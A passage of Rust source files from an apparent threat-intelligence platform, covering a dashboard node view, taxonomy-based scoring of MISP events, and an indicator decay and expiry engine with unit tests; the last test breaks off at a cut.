    /// Foreign IPs observed in this node's alarms (sources of attacks).
    pub unknown_ips: Vec<String>,
    /// Connected networks.
    pub networks: Vec<String>,
    /// Installed applications.
    pub applications: Vec<String>,
    /// The badge (alarm circle + rIoC star).
    pub badge: NodeBadge,
    /// Brief alarm descriptions, most recent first.
    pub alarm_summaries: Vec<String>,
    /// rIoC one-liners (CVE + score), highest score first.
    pub rioc_summaries: Vec<String>,
}

impl NodeView {
    /// Builds the view of one node from the dashboard state.
    ///
    /// Returns `None` when the node is not in the inventory.
    pub fn build(state: &DashboardState, id: NodeId) -> Option<NodeView> {
        let node = state.inventory().node(id)?;
        let badge = state.badges().get(&id).copied().unwrap_or_default();

        let mut alarms = state.alarms_for(id);
        alarms.sort_by_key(|a| std::cmp::Reverse(a.raised_at));
        let known: BTreeSet<&str> = node.ip_addresses.iter().map(String::as_str).collect();
        let mut unknown_ips: Vec<String> = alarms
            .iter()
            .flat_map(|a| [a.source_ip.as_str(), a.destination_ip.as_str()])
            .filter(|ip| *ip != "-" && !known.contains(ip))
            .map(str::to_owned)
            .collect();
        unknown_ips.sort_unstable();
        unknown_ips.dedup();
        let alarm_summaries = alarms
            .iter()
            .map(|a| {
                format!(
                    "[{}] {} ({} -> {})",
                    a.severity.color(),
                    a.description,
                    a.source_ip,
                    a.destination_ip
                )
            })
            .collect();

        let mut riocs = state.riocs_for(id);
        riocs.sort_by(|a, b| b.threat_score.total_cmp(&a.threat_score));
        let rioc_summaries = riocs
            .iter()
            .map(|r| {
                format!(
                    "{} TS={:.4} ({})",
                    r.cve.as_deref().unwrap_or("no-cve"),
                    r.threat_score,
                    r.priority_label()
                )
            })
            .collect();

        Some(NodeView {
            id,
            name: node.name.clone(),
            node_type: node.node_type,
            operating_system: node.operating_system.clone(),
            known_ips: node.ip_addresses.clone(),
            unknown_ips,
            networks: node.networks.clone(),
            applications: node.applications.clone(),
            badge,
            alarm_summaries,
            rioc_summaries,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::{Timestamp, Uuid};
    use cais_core::ReducedIoc;
    use cais_infra::inventory::Inventory;
    use cais_infra::{Alarm, AlarmSeverity};

    fn populated_state() -> DashboardState {
        let mut state = DashboardState::new(Inventory::paper_table3());
        state.apply_alarm(Alarm::new(
            1,
            NodeId(4),
            AlarmSeverity::High,
            "203.0.113.9",
            "192.168.1.14",
            "struts exploitation attempt",
            "suricata",
            Timestamp::EPOCH,
        ));
        state.apply_rioc(ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some("CVE-2017-9805".into()),
            description: "struts RCE".into(),
            affected_application: Some("apache".into()),
            threat_score: 2.7406,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: Some(1),
        });
        state
    }

    #[test]
    fn fig3_node_details() {
        let state = populated_state();
        let view = NodeView::build(&state, NodeId(4)).expect("node 4 exists");
        assert_eq!(view.name, "XL-SIEM");
        assert_eq!(view.node_type, NodeType::Server);
        assert_eq!(view.operating_system, "debian");
        assert_eq!(view.known_ips, vec!["192.168.1.14"]);
        // The attacker IP shows as unknown.
        assert_eq!(view.unknown_ips, vec!["203.0.113.9"]);
        assert_eq!(view.networks, vec!["LAN", "WAN"]);
        assert_eq!(view.badge.red, 1);
        assert_eq!(view.badge.riocs, 1);
        assert!(view.alarm_summaries[0].contains("[red]"));
        assert!(view.rioc_summaries[0].contains("CVE-2017-9805"));
        assert!(view.rioc_summaries[0].contains("2.7406"));
    }

    #[test]
    fn riocs_sorted_by_score() {
        let mut state = populated_state();
        state.apply_rioc(ReducedIoc {
            id: Uuid::new_v4(),
            cve: Some("CVE-2019-0001".into()),
            description: "critical".into(),
            affected_application: None,
            threat_score: 4.5,
            criteria: None,
            nodes: vec![NodeId(4)],
            via_common_keyword: false,
            misp_event_id: None,
        });
        let view = NodeView::build(&state, NodeId(4)).unwrap();
        assert!(view.rioc_summaries[0].contains("CVE-2019-0001"));
    }

    #[test]
    fn missing_node_is_none() {
        let state = populated_state();
        assert!(NodeView::build(&state, NodeId(42)).is_none());
    }
}
