//! Per-taxonomy base scoring: machine tags in, Equation 1 out.
//!
//! The CIRCL *taxonomy driven indicator scoring* idea: an event's
//! machine tags (`namespace:predicate="value"`) are a feature vector,
//! and each taxonomy namespace carries its own weight vector. This
//! module maps a namespace's predicates onto the existing
//! [`heuristics`](cais_core::heuristics) machinery — tag values become
//! [`FeatureValue`]s, the namespace's [`WeightScheme`] resolves the
//! `Pᵢ`, and [`threat_score_named`](score::threat_score_named) computes
//! `TS = Cp × Σ Xᵢ·Pᵢ` exactly as the ingest heuristics do — so decay
//! base scores and ingest threat scores share one scoring engine.

use cais_core::heuristics::{score, FeatureValue, ThreatScore, WeightScheme};
use cais_misp::MispEvent;
use serde::{Deserialize, Serialize};

/// One taxonomy namespace's scoring profile: an ordered predicate list
/// and the weight scheme over it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TaxonomyProfile {
    /// The machine-tag namespace this profile reads (`cais-conf` in
    /// `cais-conf:reliability="4"`).
    pub namespace: String,
    /// Predicates in feature order; length must match the scheme.
    pub predicates: Vec<String>,
    /// How the predicates' weights are derived.
    pub scheme: WeightScheme,
}

impl TaxonomyProfile {
    /// Builds a profile; the scheme must cover exactly the predicates.
    ///
    /// # Panics
    ///
    /// Panics on a predicate/scheme length mismatch (a configuration
    /// error, caught at construction rather than per event).
    pub fn new(
        namespace: impl Into<String>,
        predicates: Vec<String>,
        scheme: WeightScheme,
    ) -> Self {
        assert_eq!(
            predicates.len(),
            scheme.len(),
            "taxonomy profile: {} predicates but scheme covers {}",
            predicates.len(),
            scheme.len()
        );
        TaxonomyProfile {
            namespace: namespace.into(),
            predicates,
            scheme,
        }
    }

    /// The event's feature vector under this profile: for each
    /// predicate, the first matching machine tag's value parsed as a
    /// 0–5 score (values above 5 clamp; non-numeric or absent tags are
    /// [`FeatureValue::Empty`]).
    pub fn feature_values(&self, event: &MispEvent) -> Vec<FeatureValue> {
        self.predicates
            .iter()
            .map(|predicate| {
                event
                    .tags
                    .iter()
                    .find(|tag| {
                        tag.namespace() == Some(self.namespace.as_str())
                            && tag.predicate() == Some(predicate.as_str())
                    })
                    .and_then(|tag| tag.value())
                    .and_then(|value| value.parse::<f64>().ok())
                    .map(|raw| FeatureValue::scored(raw.round().clamp(0.0, 5.0) as u8))
                    .unwrap_or(FeatureValue::Empty)
            })
            .collect()
    }

    /// Scores the event under this profile, or `None` when the event
    /// carries no tag of the namespace at all (the profile then simply
    /// does not apply — distinct from an all-empty evaluation).
    pub fn evaluate(&self, event: &MispEvent) -> Option<ThreatScore> {
        let values = self.feature_values(event);
        if values.iter().all(|v| !v.is_evaluated()) {
            return None;
        }
        let names: Vec<&str> = self.predicates.iter().map(String::as_str).collect();
        Some(score::threat_score_named(&names, &values, &self.scheme))
    }
}

/// The base-score function: a set of taxonomy profiles plus a fallback.
///
/// An event's base score is the mean of every applicable profile's
/// threat score. Events no profile applies to fall back to the
/// `cais:threat-score` machine tag the enrichment pipeline writes, and
/// finally to [`BaseScorer::DEFAULT_BASE`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct BaseScorer {
    /// The profiles, tried in order; all applicable ones contribute.
    pub profiles: Vec<TaxonomyProfile>,
}

impl BaseScorer {
    /// Base score for events nothing else covers: the middle of the
    /// 0–5 scale.
    pub const DEFAULT_BASE: f64 = 2.5;

    /// A scorer over explicit profiles.
    pub fn new(profiles: Vec<TaxonomyProfile>) -> Self {
        BaseScorer { profiles }
    }

    /// The default CAIS confidence taxonomy: `cais-conf:reliability`,
    /// `cais-conf:freshness` and `cais-conf:corroboration`, weighted
    /// 0.5/0.25/0.25 with renormalization over the evaluated predicates
    /// (a partially tagged event still gets a full-mass distribution,
    /// Table V's behaviour).
    pub fn cais_default() -> Self {
        BaseScorer::new(vec![TaxonomyProfile::new(
            "cais-conf",
            vec![
                "reliability".to_owned(),
                "freshness".to_owned(),
                "corroboration".to_owned(),
            ],
            WeightScheme::Static {
                weights: vec![0.5, 0.25, 0.25],
                policy: cais_core::heuristics::NormalizationPolicy::OverEvaluated,
            },
        )])
    }

    /// The event's base score (see the type docs for the fallbacks).
    pub fn base_score(&self, event: &MispEvent) -> f64 {
        let mut sum = 0.0;
        let mut applied = 0usize;
        for profile in &self.profiles {
            if let Some(ts) = profile.evaluate(event) {
                sum += ts.total();
                applied += 1;
            }
        }
        if applied > 0 {
            return sum / applied as f64;
        }
        event
            .threat_score()
            .map_or(BaseScorer::DEFAULT_BASE, |ts| ts.clamp(0.0, 5.0))
    }
}

impl Default for BaseScorer {
    fn default() -> Self {
        BaseScorer::cais_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_misp::Tag;

    fn tagged(tags: &[(&str, &str, &str)]) -> MispEvent {
        let mut event = MispEvent::new("decay taxonomy test");
        for (ns, predicate, value) in tags {
            event.add_tag(Tag::machine(ns, predicate, value));
        }
        event
    }

    #[test]
    fn fully_tagged_event_scores_through_equation_1() {
        let scorer = BaseScorer::cais_default();
        let event = tagged(&[
            ("cais-conf", "reliability", "4"),
            ("cais-conf", "freshness", "2"),
            ("cais-conf", "corroboration", "5"),
        ]);
        // Cp = 1, weights 0.5/0.25/0.25 → 4·0.5 + 2·0.25 + 5·0.25.
        assert!((scorer.base_score(&event) - 3.75).abs() < 1e-12);
    }

    #[test]
    fn partial_tags_renormalize_over_evaluated() {
        let scorer = BaseScorer::cais_default();
        let event = tagged(&[("cais-conf", "reliability", "3")]);
        // Only reliability evaluated: weight renormalizes to 1, but
        // completeness Cp = 1/3 scales the score down.
        assert!((scorer.base_score(&event) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn untagged_event_falls_back_to_threat_score_then_default() {
        let scorer = BaseScorer::cais_default();
        let mut event = tagged(&[]);
        assert!((scorer.base_score(&event) - BaseScorer::DEFAULT_BASE).abs() < 1e-12);
        event.add_tag(Tag::machine("cais", "threat-score", "2.7406"));
        assert!((scorer.base_score(&event) - 2.7406).abs() < 1e-12);
    }

    #[test]
    fn garbage_and_out_of_range_values_are_handled() {
        let scorer = BaseScorer::cais_default();
        let event = tagged(&[
            ("cais-conf", "reliability", "nonsense"),
            ("cais-conf", "freshness", "99"),
        ]);
        // reliability unparsable → Empty; freshness clamps to 5.
        // Cp = 1/3, freshness carries the whole weight → 5/3.
        assert!((scorer.base_score(&event) - 5.0 / 3.0).abs() < 1e-12);
    }

    #[test]
    fn multiple_profiles_average() {
        let half = WeightScheme::fixed(vec![1.0]);
        let scorer = BaseScorer::new(vec![
            TaxonomyProfile::new("a", vec!["x".to_owned()], half.clone()),
            TaxonomyProfile::new("b", vec!["x".to_owned()], half),
        ]);
        let event = tagged(&[("a", "x", "4"), ("b", "x", "2")]);
        assert!((scorer.base_score(&event) - 3.0).abs() < 1e-12);
    }

    #[test]
    #[should_panic(expected = "taxonomy profile")]
    fn profile_length_mismatch_panics() {
        let _ = TaxonomyProfile::new("a", vec![], WeightScheme::fixed(vec![1.0]));
    }
}
