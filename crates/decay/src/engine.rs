//! The lifecycle engine: incremental rescoring and expiry sweeps.
//!
//! [`DecayEngine`] keeps a dense per-indicator entry `{base, anchor}`
//! and consumes the store's mutation changelog (PR 5 generation
//! counter, extended here with per-generation event ids): a rescore
//! pass asks the store which events moved since the last pass,
//! re-derives the taxonomy base only for those, then decays every
//! tracked indicator in one linear walk — no store lock, no hashmap
//! probe, no tag parsing for the unchanged majority. The
//! from-scratch path ([`DecayEngine::score_from_scratch`]) re-derives
//! every base and serves both as the benchmark baseline and as the
//! property-test oracle: for any interleaving of sightings, churn and
//! sweeps the two must agree bit for bit.
//!
//! Time comes from an injected [`Clock`], so tests and benches drive a
//! [`VirtualClock`](cais_common::resilience::VirtualClock) while
//! production uses [`SystemClock`](cais_common::resilience::SystemClock).

use std::collections::HashMap;
use std::sync::Arc;
use std::time::Duration;

use cais_common::resilience::{Clock, Sleeper, SystemClock};
use cais_common::time::MILLIS_PER_DAY;
use cais_common::{Timestamp, Uuid};
use cais_misp::{MispError, MispEvent, MispStore, Tag};
use cais_telemetry::{Counter, Gauge, Registry, Tracer};
use parking_lot::Mutex;

use crate::ledger::SightingLedger;
use crate::model::DecayModel;
use crate::taxonomy::BaseScorer;

/// Machine-tag predicate carrying the lifecycle state
/// (`cais:decay-state="expired"` / `"active"`).
pub const DECAY_STATE_PREDICATE: &str = "decay-state";
/// Machine-tag predicate carrying the last swept score
/// (`cais:decay-score="2.41"`).
pub const DECAY_SCORE_PREDICATE: &str = "decay-score";
/// Namespace of the lifecycle tags. Deliberately distinct from any
/// taxonomy profile namespace so sweep writes never perturb base
/// scores.
pub const DECAY_TAG_NAMESPACE: &str = "cais";

/// One event's decayed score as of a rescore pass.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RescoredEvent {
    /// Store id of the event.
    pub event_id: u64,
    /// Stable identity — what the ledger keys on.
    pub uuid: Uuid,
    /// Taxonomy base score (Equation 1 over the event's machine tags).
    pub base: f64,
    /// Base after decay at the pass's `now`.
    pub score: f64,
    /// Whether the score fell below the model threshold.
    pub expired: bool,
}

/// What one rescore pass did, for telemetry and benchmarks.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RescoreSummary {
    /// Events scored in total.
    pub scored: usize,
    /// Events whose version moved — full base re-derivation.
    pub rebased: usize,
    /// Events whose cached base was reused — lookup + multiply only.
    pub reused: usize,
    /// Events at or past expiry after this pass.
    pub expired: usize,
}

/// What one sweep did: the rescore plus the state flips it wrote back.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SweepSummary {
    /// The rescore pass the sweep ran on.
    pub rescore: RescoreSummary,
    /// Events newly marked expired (tagged + unpublished).
    pub flipped_expired: usize,
    /// Previously expired events revived by fresh sightings
    /// (re-tagged + republished).
    pub flipped_active: usize,
}

/// One tracked indicator: everything the score pass needs, packed
/// densely so the steady-state rescore is a linear walk over this
/// vector — no store lock, no hashmap, no tag parsing.
#[derive(Debug, Clone, Copy)]
struct Entry {
    event_id: u64,
    uuid: Uuid,
    base: f64,
    /// The decay anchor: the last sighting if any, else the event
    /// date. Maintained incrementally — [`DecayEngine::record_sighting`]
    /// and rebase both rewrite it — so the score pass never touches
    /// the ledger.
    anchor: Timestamp,
}

#[derive(Default)]
struct EngineState {
    /// Tracked indicators in ascending event-id order.
    entries: Vec<Entry>,
    by_id: HashMap<u64, usize>,
    by_uuid: HashMap<Uuid, usize>,
    ledger: SightingLedger,
    /// Store generation as of the last sync, `None` before the first
    /// pass (or for a store this engine has never seen).
    synced_generation: Option<u64>,
}

impl EngineState {
    fn rebuild_indexes(&mut self) {
        self.entries.sort_unstable_by_key(|e| e.event_id);
        self.by_id = self
            .entries
            .iter()
            .enumerate()
            .map(|(i, e)| (e.event_id, i))
            .collect();
        self.by_uuid = self
            .entries
            .iter()
            .enumerate()
            .map(|(i, e)| (e.uuid, i))
            .collect();
    }
}

struct Metrics {
    rescores: Counter,
    sweeps: Counter,
    rebased: Counter,
    reused: Counter,
    expired_flips: Counter,
    revived_flips: Counter,
    sightings: Counter,
    tracked: Gauge,
    expired_now: Gauge,
}

/// The lifecycle engine. Cheap to share behind an `Arc`; all state is
/// behind one mutex, and rescore passes never hold the store's write
/// lock (they read a snapshot-consistent walk).
pub struct DecayEngine {
    model: DecayModel,
    scorer: BaseScorer,
    clock: Arc<dyn Clock>,
    state: Mutex<EngineState>,
    metrics: Mutex<Option<Metrics>>,
    tracer: Mutex<Option<Tracer>>,
}

impl DecayEngine {
    /// An engine over an explicit model, scorer and clock.
    pub fn new(model: DecayModel, scorer: BaseScorer, clock: Arc<dyn Clock>) -> Self {
        DecayEngine {
            model,
            scorer,
            clock,
            state: Mutex::new(EngineState::default()),
            metrics: Mutex::new(None),
            tracer: Mutex::new(None),
        }
    }

    /// Attaches a causal tracer: every sweep roots a `decay` span
    /// recording how many events it rescored and flipped.
    pub fn set_tracer(&self, tracer: &Tracer) {
        *self.tracer.lock() = Some(tracer.clone());
    }

    /// The production configuration: wall-clock time.
    pub fn with_system_clock(model: DecayModel, scorer: BaseScorer) -> Self {
        DecayEngine::new(model, scorer, Arc::new(SystemClock))
    }

    /// The model in force.
    pub fn model(&self) -> DecayModel {
        self.model
    }

    /// Registers `decay_*` counters and gauges.
    pub fn instrument(&self, registry: &Registry) {
        *self.metrics.lock() = Some(Metrics {
            rescores: registry.counter("decay_rescores_total"),
            sweeps: registry.counter("decay_sweeps_total"),
            rebased: registry.counter("decay_events_rebased_total"),
            reused: registry.counter("decay_events_reused_total"),
            expired_flips: registry.counter("decay_expired_flips_total"),
            revived_flips: registry.counter("decay_revived_flips_total"),
            sightings: registry.counter("decay_sightings_recorded_total"),
            tracked: registry.gauge("decay_tracked_events"),
            expired_now: registry.gauge("decay_expired_events"),
        });
    }

    /// Records a sighting: the decay clock for `uuid` restarts at
    /// `seen_at` (anchors only move forward).
    pub fn record_sighting(&self, uuid: Uuid, seen_at: Timestamp) {
        let mut state = self.state.lock();
        state.ledger.record(uuid, seen_at);
        if let Some(&idx) = state.by_uuid.get(&uuid) {
            let anchor = state.ledger.last_seen(&uuid).expect("just recorded");
            state.entries[idx].anchor = anchor;
        }
        drop(state);
        if let Some(m) = self.metrics.lock().as_ref() {
            m.sightings.inc();
        }
    }

    /// Total sightings recorded for `uuid`.
    pub fn sighting_count(&self, uuid: &Uuid) -> u64 {
        self.state.lock().ledger.count(uuid)
    }

    /// The decay anchor: last sighting if any, else the event date.
    fn anchor(ledger: &SightingLedger, event: &MispEvent) -> Timestamp {
        ledger.last_seen(&event.uuid).unwrap_or(event.date)
    }

    fn decayed(&self, base: f64, anchor: Timestamp, now: Timestamp) -> f64 {
        let elapsed_days = now.millis_since(anchor).max(0) as f64 / MILLIS_PER_DAY as f64;
        self.model.score_at(base, elapsed_days)
    }

    /// Synchronizes the tracked entries with the store, re-deriving
    /// bases only for events the store's changelog reports as moved.
    /// Falls back to a full rebuild when the changelog cannot answer
    /// (first pass, or a store this engine has never synced). Returns
    /// how many bases were re-derived.
    fn sync(&self, state: &mut EngineState, store: &MispStore) -> usize {
        let generation = store.generation();
        let changed = match state.synced_generation {
            Some(last) if last == generation => Some(Vec::new()),
            Some(last) => store.changed_event_ids_since(last),
            None => None,
        };
        let rebased = match changed {
            Some(ids) => {
                // The ids are deduped, so each is visited once: updates
                // rewrite in place via `by_id`, new events append (index
                // rebuild deferred), departures collect for a single
                // retain pass afterwards — removing mid-loop would shift
                // the indexes `by_id` still points at.
                let mut appended = false;
                let mut gone: Vec<Uuid> = Vec::new();
                let mut rebased = 0;
                for id in ids {
                    let Some(versioned) = store.versioned(id) else {
                        if let Some(&idx) = state.by_id.get(&id) {
                            gone.push(state.entries[idx].uuid);
                        }
                        continue;
                    };
                    let event = &versioned.event;
                    let entry = Entry {
                        event_id: id,
                        uuid: event.uuid,
                        base: self.scorer.base_score(event),
                        anchor: DecayEngine::anchor(&state.ledger, event),
                    };
                    rebased += 1;
                    if let Some(&idx) = state.by_id.get(&id) {
                        state.entries[idx] = entry;
                    } else {
                        state.entries.push(entry);
                        appended = true;
                    }
                }
                if !gone.is_empty() {
                    state.entries.retain(|e| !gone.contains(&e.uuid));
                    state.ledger.retain(|uuid| !gone.contains(uuid));
                }
                if appended || !gone.is_empty() {
                    state.rebuild_indexes();
                }
                rebased
            }
            None => {
                // Cold pass or unknown store: rebuild everything.
                state.entries.clear();
                store.for_each_versioned(|event, _version| {
                    state.entries.push(Entry {
                        event_id: event.id,
                        uuid: event.uuid,
                        base: self.scorer.base_score(event),
                        anchor: DecayEngine::anchor(&state.ledger, event),
                    });
                });
                state.rebuild_indexes();
                let by_uuid = std::mem::take(&mut state.by_uuid);
                state.ledger.retain(|uuid| by_uuid.contains_key(uuid));
                state.by_uuid = by_uuid;
                state.entries.len()
            }
        };
        state.synced_generation = Some(generation);
        rebased
    }

    /// Incremental rescore: consumes the store changelog to re-derive
    /// bases only for events whose version moved since the previous
    /// pass, then scores every tracked indicator in one dense walk.
    /// Results come back in store-id order.
    pub fn rescore(&self, store: &MispStore) -> (Vec<RescoredEvent>, RescoreSummary) {
        let now = self.clock.now();
        let mut state = self.state.lock();
        let mut summary = RescoreSummary {
            rebased: self.sync(&mut state, store),
            ..RescoreSummary::default()
        };
        summary.scored = state.entries.len();
        summary.reused = summary.scored.saturating_sub(summary.rebased);

        let mut out = Vec::with_capacity(state.entries.len());
        for entry in &state.entries {
            let score = self.decayed(entry.base, entry.anchor, now);
            let expired = self.model.is_expired(score);
            if expired {
                summary.expired += 1;
            }
            out.push(RescoredEvent {
                event_id: entry.event_id,
                uuid: entry.uuid,
                base: entry.base,
                score,
                expired,
            });
        }
        drop(state);

        if let Some(m) = self.metrics.lock().as_ref() {
            m.rescores.inc();
            m.rebased.add(summary.rebased as u64);
            m.reused.add(summary.reused as u64);
            m.tracked.set(summary.scored as i64);
            m.expired_now.set(summary.expired as i64);
        }
        (out, summary)
    }

    /// From-scratch rescore: derives every base from the event's tags,
    /// ignoring (and not touching) the cached entries. Shares the
    /// ledger and clock with the incremental path, so for the same
    /// store state the two paths must agree exactly — this is the
    /// benchmark baseline and the property-test oracle.
    pub fn score_from_scratch(&self, store: &MispStore) -> Vec<RescoredEvent> {
        let now = self.clock.now();
        let state = self.state.lock();
        let mut out = Vec::new();
        store.for_each_versioned(|event, _version| {
            let base = self.scorer.base_score(event);
            let score = self.decayed(base, DecayEngine::anchor(&state.ledger, event), now);
            out.push(RescoredEvent {
                event_id: event.id,
                uuid: event.uuid,
                base,
                score,
                expired: self.model.is_expired(score),
            });
        });
        out
    }

    /// One expiry sweep: rescore, then persist state flips back into
    /// the store. Newly expired events get
    /// `cais:decay-state="expired"` + `cais:decay-score` tags and are
    /// unpublished — the store's version bump makes every downstream
    /// byte cache (share exporter, TAXII pages) drop the stale copy.
    /// Previously expired events whose score recovered (a sighting
    /// reset their clock) are re-tagged `active` and republished.
    /// Untouched events are not written at all, so sweep cost tracks
    /// the number of *flips*, not the store size.
    pub fn sweep(&self, store: &MispStore) -> Result<SweepSummary, MispError> {
        let mut span = self
            .tracer
            .lock()
            .as_ref()
            .map(|t| t.root("decay", "decay_sweep"));
        let (scores, rescore) = self.rescore(store);
        let mut summary = SweepSummary {
            rescore,
            ..SweepSummary::default()
        };

        for rescored in &scores {
            let marked_expired = store
                .with_event(rescored.event_id, is_marked_expired)
                .unwrap_or(false);
            let flip = match (rescored.expired, marked_expired) {
                (true, false) => Some(true),
                (false, true) => Some(false),
                _ => None,
            };
            let Some(to_expired) = flip else { continue };

            let score = rescored.score;
            store.update(rescored.event_id, move |event| {
                event.tags.retain(|tag| {
                    !(tag.namespace() == Some(DECAY_TAG_NAMESPACE)
                        && matches!(
                            tag.predicate(),
                            Some(DECAY_STATE_PREDICATE) | Some(DECAY_SCORE_PREDICATE)
                        ))
                });
                let state = if to_expired { "expired" } else { "active" };
                event.add_tag(Tag::machine(
                    DECAY_TAG_NAMESPACE,
                    DECAY_STATE_PREDICATE,
                    state,
                ));
                event.add_tag(Tag::machine(
                    DECAY_TAG_NAMESPACE,
                    DECAY_SCORE_PREDICATE,
                    &format!("{score:.4}"),
                ));
                event.published = !to_expired;
            })?;
            if to_expired {
                summary.flipped_expired += 1;
            } else {
                summary.flipped_active += 1;
            }
        }

        if let Some(m) = self.metrics.lock().as_ref() {
            m.sweeps.inc();
            m.expired_flips.add(summary.flipped_expired as u64);
            m.revived_flips.add(summary.flipped_active as u64);
        }
        if let Some(span) = span.as_mut() {
            span.field("rescored", summary.rescore.scored);
            span.field("flipped_expired", summary.flipped_expired);
            span.field("flipped_active", summary.flipped_active);
        }
        Ok(summary)
    }

    /// Runs up to `rounds` sweeps, pausing `interval` between them via
    /// the injected [`Sleeper`]. Stops early when the sleeper reports
    /// interruption (a [`StopToken`](cais_common::resilience::StopToken)
    /// fired) or a sweep fails. Returns the completed sweep summaries.
    pub fn sweep_loop(
        &self,
        store: &MispStore,
        interval: Duration,
        sleeper: &impl Sleeper,
        rounds: usize,
    ) -> Result<Vec<SweepSummary>, MispError> {
        let mut summaries = Vec::new();
        for round in 0..rounds {
            summaries.push(self.sweep(store)?);
            if round + 1 < rounds && !sleeper.sleep(interval) {
                break;
            }
        }
        Ok(summaries)
    }
}

fn is_marked_expired(event: &MispEvent) -> bool {
    event.tags.iter().any(|tag| {
        tag.namespace() == Some(DECAY_TAG_NAMESPACE)
            && tag.predicate() == Some(DECAY_STATE_PREDICATE)
            && tag.value() == Some("expired")
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use cais_common::resilience::{RecordingSleeper, VirtualClock};

    fn engine_with_clock() -> (DecayEngine, VirtualClock) {
        let clock = VirtualClock::starting_at(Timestamp::from_unix_millis(40 * MILLIS_PER_DAY));
        let engine = DecayEngine::new(
            DecayModel::new(30.0, 1.0).with_threshold(1.0),
            BaseScorer::cais_default(),
            Arc::new(clock.clone()),
        );
        (engine, clock)
    }

    fn store_with_events(n: u64, clock: &VirtualClock) -> MispStore {
        let store = MispStore::new();
        for i in 0..n {
            let mut event = MispEvent::new(format!("decay event {i}"));
            event.date = clock.now();
            event.add_tag(Tag::machine("cais-conf", "reliability", "4"));
            event.add_tag(Tag::machine("cais-conf", "freshness", "4"));
            event.add_tag(Tag::machine("cais-conf", "corroboration", "4"));
            let id = store.insert(event).expect("insert");
            store.publish(id).expect("publish");
        }
        store
    }

    #[test]
    fn second_pass_reuses_every_unchanged_base() {
        let (engine, clock) = engine_with_clock();
        let store = store_with_events(10, &clock);

        let (_, first) = engine.rescore(&store);
        assert_eq!(first.rebased, 10);
        assert_eq!(first.reused, 0);

        store
            .update(1, |event| event.info.push_str(" (edited)"))
            .expect("update");
        let (_, second) = engine.rescore(&store);
        assert_eq!(second.rebased, 1, "only the churned event re-derives");
        assert_eq!(second.reused, 9);
    }

    #[test]
    fn sightings_reset_the_decay_clock() {
        let (engine, clock) = engine_with_clock();
        let store = store_with_events(2, &clock);
        let seen = store.get(1).expect("event").uuid;

        clock.advance_days(15); // τ=30, δ=1 → half the base gone
        let (scores, _) = engine.rescore(&store);
        let half: Vec<f64> = scores.iter().map(|s| s.score).collect();
        assert!((half[0] - scores[0].base / 2.0).abs() < 1e-9);

        engine.record_sighting(seen, clock.now());
        let (scores, _) = engine.rescore(&store);
        assert_eq!(scores[0].score, scores[0].base, "sighted event is fresh");
        assert!((scores[1].score - scores[1].base / 2.0).abs() < 1e-9);
        assert_eq!(engine.sighting_count(&seen), 1);
    }

    #[test]
    fn sweep_flips_expire_and_revive_with_version_bumps() {
        let (engine, clock) = engine_with_clock();
        let store = store_with_events(1, &clock);
        let uuid = store.get(1).expect("event").uuid;

        // Past τ the event expires: unpublished, tagged, version moves.
        clock.advance_days(31);
        let summary = engine.sweep(&store).expect("sweep");
        assert_eq!(summary.flipped_expired, 1);
        let event = store.get(1).expect("event");
        assert!(!event.published);
        assert!(is_marked_expired(&event));
        let after_expire = store.event_version(1).expect("version");
        assert!(after_expire > 0);

        // A repeat sweep with nothing changed writes nothing. Its
        // rescore re-derives the one event the flip above wrote (the
        // changelog reports it), and because `cais:decay-*` tags feed
        // no taxonomy profile the base comes back unchanged.
        let idle = engine.sweep(&store).expect("sweep");
        assert_eq!(idle.flipped_expired + idle.flipped_active, 0);
        assert_eq!(store.event_version(1), Some(after_expire));
        assert_eq!(idle.rescore.rebased, 1);

        // With no writes at all, the next pass reuses everything.
        let (_, quiet) = engine.rescore(&store);
        assert_eq!(quiet.rebased, 0);
        assert_eq!(quiet.reused, 1);

        // A fresh sighting revives it: republished, tagged active.
        engine.record_sighting(uuid, clock.now());
        let revived = engine.sweep(&store).expect("sweep");
        assert_eq!(revived.flipped_active, 1);
        let event = store.get(1).expect("event");
        assert!(event.published);
        assert!(!is_marked_expired(&event));
        assert!(store.event_version(1).expect("version") > after_expire);
    }

    #[test]
    fn incremental_matches_from_scratch_after_churn() {
        let (engine, clock) = engine_with_clock();
        let store = store_with_events(20, &clock);
        engine.rescore(&store);

        clock.advance_days(12);
        store
            .update(3, |event| {
                event.tags.retain(|t| t.predicate() != Some("reliability"));
            })
            .expect("update");
        engine.record_sighting(store.get(7).expect("event").uuid, clock.now());

        let (incremental, summary) = engine.rescore(&store);
        let scratch = engine.score_from_scratch(&store);
        assert_eq!(incremental, scratch);
        assert!(summary.reused > 0, "most events must take the cheap path");
    }

    #[test]
    fn rescore_forgets_events_that_left_the_store() {
        let (engine, clock) = engine_with_clock();
        let store = store_with_events(3, &clock);
        let (_, first) = engine.rescore(&store);
        assert_eq!(first.scored, 3);

        // A fresh store with one of the three events gone.
        let survivor = store.get(2).expect("event");
        let rebuilt = MispStore::new();
        rebuilt.insert(survivor).expect("insert");
        let (scores, _) = engine.rescore(&rebuilt);
        assert_eq!(scores.len(), 1);
        // Internal maps shrank with the store.
        assert_eq!(engine.state.lock().entries.len(), 1);
    }

    #[test]
    fn sweep_loop_honours_the_sleeper() {
        let (engine, clock) = engine_with_clock();
        let store = store_with_events(2, &clock);
        let sleeper = RecordingSleeper::new();
        let summaries = engine
            .sweep_loop(&store, Duration::from_secs(60), &sleeper, 3)
            .expect("loop");
        assert_eq!(summaries.len(), 3);
        assert_eq!(sleeper.naps().len(), 2, "no sleep after the last round");
    }

    #[test]
    fn instrumented_engine_reports_decay_metrics() {
        let (engine, clock) = engine_with_clock();
        let registry = Registry::new();
        engine.instrument(&registry);
        let store = store_with_events(4, &clock);
        clock.advance_days(31);
        engine.sweep(&store).expect("sweep");

        let snapshot = registry.snapshot();
        let counter = |name: &str| snapshot.counters.get(name).copied().unwrap_or_default();
